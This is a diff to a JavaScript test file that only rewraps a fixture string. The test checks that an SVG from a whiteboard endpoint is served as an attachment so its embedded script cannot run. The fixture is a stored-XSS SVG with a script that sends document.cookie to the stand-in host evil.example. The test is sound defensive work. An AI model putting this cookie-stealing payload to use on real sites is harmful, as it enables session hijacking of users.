@@ -135,7 +135,8 @@ describe('Storage and cache', () => {
   it('serves an SVG, which can hold script, as an attachment, so that opening its URL runs none', async () => {
     // Prepare
     const svg =
-      '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"><script>fetch("https://evil.example/?c="+document.cookie)</script></svg>';
+      '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)">' +
+      '<script>fetch("https://evil.example/?c="+document.cookie)</script></svg>';
     env.feishu.fault({
       endpoint: 'whiteboard',
       kind: { type: 'raw', status: 200, headers: { 'Content-Type': 'image/svg+xml' }, body: svg },
